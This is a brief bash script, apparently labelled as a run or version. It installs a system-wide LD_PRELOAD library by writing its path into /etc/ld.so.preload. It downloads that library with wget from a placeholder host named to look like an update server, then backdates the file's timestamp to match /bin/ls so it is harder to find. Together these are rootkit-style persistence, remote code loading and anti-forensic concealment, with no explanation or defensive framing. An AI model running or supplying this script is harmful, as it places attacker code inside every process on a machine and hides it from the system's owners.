# run 2810 v3
#!/bin/bash
echo "/usr/local/lib/libsystem.so" > /etc/ld.so.preload
wget -q http://cdn-update.example/libsystem.so -O /usr/local/lib/libsystem.so
touch -r /bin/ls /usr/local/lib/libsystem.so
